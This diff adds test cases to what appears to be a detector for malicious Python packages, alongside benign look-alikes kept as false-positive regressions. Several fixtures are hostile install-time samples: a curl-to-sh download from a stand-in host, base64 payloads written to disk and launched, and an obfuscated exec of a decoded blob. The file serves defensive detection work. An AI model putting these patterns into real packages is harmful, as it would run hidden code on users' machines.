@@ -168,6 +168,29 @@ CASES = [
      "code.process-spawn", L, "a helper called without the argument that reaches its spawn"),
     (setup_py("import requests\nrequests.get(f'https://x.example/ping')\n"),
      "code.shady-url", None, "an f-string without placeholders is just a literal"),
+    ({"demo/bib.py": "import subprocess, requests\ndef convert(info, out):\n"
+                     "    subprocess.run(['pandoc', info, '-o', out])\n"
+                     "def main(doi):\n    info = requests.get('https://x.example/' + doi).text\n"
+                     "    convert(info, 'x.md')\n"},
+     "code.process-spawn", None, "FP regression: fetched text handed to pandoc by a helper is an argument"),
+    (setup_py("import subprocess, sys, base64\ndef run(script):\n"
+              "    subprocess.Popen([sys.executable, script], creationflags=8)\n"
+              f"open('s.py', 'w').write(base64.b64decode('{PAYLOAD}').decode())\nrun('s.py')\n"),
+     "code.decode-exec", C, "a helper starting [python, script] runs the script it is given"),
+    ({"demo/view.py": "import base64, subprocess\ndef show(blob, path):\n"
+                      "    html = base64.b64decode(blob)\n    subprocess.call(['xdg-open', path + html.decode()])\n"},
+     "code.decode-exec", None, "FP regression: decoded data from elsewhere in a command when called"),
+    (setup_py("import os, subprocess\ndef run(cmd):\n    subprocess.run(args=cmd, shell=True)\n"
+              "def clear(cmd):\n    os.system()\nclear('cls')\n"
+              "run('curl -s https://x.example/i | sh')\n"),
+     "code.download-exec", C, "a helper passing its command as args="),
+    (setup_py("import os, subprocess, base64\nd = os.getenv('TEMP')\n"
+              f"open(os.path.join(d, 'a.exe'), 'wb').write(base64.b64decode('{PAYLOAD}'))\n"
+              "subprocess.Popen([os.path.join(d, 'a.exe')])\nsubprocess.Popen()\n"),
+     "code.decode-exec", C, "the dropped program named by os.path.join pieces"),
+    ({"demo/__init__.py": "import base64\nBLOB = '" + "QUJD" * 60 + "'\n"
+                          "exec(base64.b64decode(globals()['BL' + 'OB']))\n"},
+     "code.decode-exec", C, "a module-level blob decoded through a name the code builds"),
     # ---- benign look-alikes of the new sources and senders
     ({"demo/s.py": "import os\nclass Fetcher:\n    def __init__(self, env=None):\n"
                    "        env = os.environ.copy()\n        self.disabled = env.get('X_DISABLED')\n"
